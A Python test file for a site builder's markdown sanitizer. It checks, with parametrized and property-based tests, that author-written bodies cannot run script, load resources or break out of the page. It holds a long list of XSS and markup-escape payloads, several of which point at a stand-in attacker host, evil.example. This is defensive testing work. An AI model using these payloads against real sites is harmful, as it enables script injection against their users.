"""Where bodies are sanitized, what an author writes cannot leave the body, run, or load."""

import html
from collections.abc import Iterator
from typing import Any

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from site_builder.articles.source import Rules
from site_builder.build.markup import MarkupFault, render_markdown
from site_builder.config import ENGINES

FORBIDDEN = {
    "script", "style", "link", "meta", "base", "iframe", "frame", "frameset", "object", "embed",
    "applet", "form", "input", "button", "textarea", "select", "template", "noscript", "noembed",
    "noframes", "xmp", "plaintext", "svg", "math", "audio", "video", "source", "track", "portal",
    "title", "head", "html", "body",
}  # fmt: skip
ADDRESSES = (
    "href",
    "src",
    "cite",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "xlink:href",
)
SCHEMES = ("http://", "https://", "mailto:", "/", "#", "")
HARMLESS = {"http", "https", "mailto", "tel", "ftp", "ftps", "irc", "magnet", "news", "sms", "xmpp"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x\tonerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//>",
    "<p onclick=\"alert(1)\" style='position:fixed;inset:0'>x</p>",
    "<style>*{display:none}</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0; url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=a><button>Go</button></form>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x>">',
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<!-- unclosed comment",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<textarea>",
    "<title>",
    "<plaintext>",
    "<xmp>",
    "<select><option>",
    "<table><tr><td>",
    "<a href='",
    "<p title=\"",
    "<div ",
    "</div></div></main></body></html>",
    "</article></main><footer>Another</footer>",
    "<p></p></p></div>",
    "<table></div></table>",
    "<b><i><u><a href=/>",
    '<p id="page-main">x</p>',
    '<video src=x onerror=alert(1)><source src="https://evil.example/x">',
    '<picture><source srcset="https://evil.example/x"><img src=x></picture>',
    '<img srcset="https://evil.example/x 2x" src=x>',
    '<details open ontoggle=alert(1)>x</details>',
    '<body onload=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<input autofocus onfocus=alert(1)>',
    '<p contenteditable tabindex=1 accesskey=x>x</p>',
    "# Heading {: onclick=alert(1) style=color:red }",
    "Text.\n{: onclick=\"alert(1)\" }",
    '[x](/y){: onclick="alert(1)" href="javascript:alert(1)" }',
]  # fmt: skip
PIECES = st.lists(
    st.sampled_from(ATTACKS)
    | st.sampled_from(["<", ">", '"', "'", "<!--", "-->", "</", "\n\n", "\n", "`", "{:", "}", "&#"])
    | st.text(max_size=6),
    max_size=6,
).map("".join)  # fmt: skip


def rendered(text: str, engine: str, sanitize: bool) -> str:
    body = render_markdown(text, Rules("UTC", "en", sanitize, engine))
    pieces = [body.parts[0]]
    for href, part in zip(body.hrefs, body.parts[1:], strict=True):
        pieces += (html.escape(href), part)
    return "".join(pieces)


def elements(of: Any) -> Iterator[Any]:
    for element in of.iter():
        if isinstance(element.tag, str):
            yield element


def check(text: str, engine: str, *, sanitize: bool = True) -> None:
    """Put a body into a page as the theme does, and look at it as a browser would."""
    page = (
        '<!doctype html><html><head><title>T</title></head><body><main><div class="body">\n'
        f'{rendered(text, engine, sanitize)}\n</div><p id="after">After</p></main></body></html>'
    )
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    (main,) = tree.findall("body/main")
    assert [child.tag for child in main] == ["div", "p"]
    assert main[1].get("id") == "after"
    assert [child.tag for child in tree.findall("body/*")] == ["main"]
    assert [child.tag for child in tree.findall("head/*")] == ["title"]
    for element in elements(main[0]):
        assert element.tag.rpartition("}")[2] not in FORBIDDEN
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), name
            assert name not in ("style", "srcset", "http-equiv", "action", "formaction", "srcdoc")
            if name in ADDRESSES:
                scheme, colon, _ = value.strip().partition(":")
                relative = not colon or any(sign in scheme for sign in "/?#")
                assert relative or scheme.lower() in HARMLESS, value


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_that_an_author_writes_runs_or_leaves_the_body(text: str, engine: str) -> None:
    check(text, engine)
    check(f"Before.\n\n{text}\n\nAfter.", engine)
    check(f"Before {text} after.", engine)


@pytest.mark.parametrize("engine", ENGINES)
@given(text=PIECES)
def test_nor_does_anything_put_together_from_that(engine: str, text: str) -> None:
    try:
        check(text, engine)
    except MarkupFault:
        return  # refused is as good


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("number", [0, 1, 6, 15, 43])
def test_these_checks_see_what_is_not_sanitized(number: int, engine: str) -> None:
    with pytest.raises(AssertionError):
        check(ATTACKS[number], engine, sanitize=False)
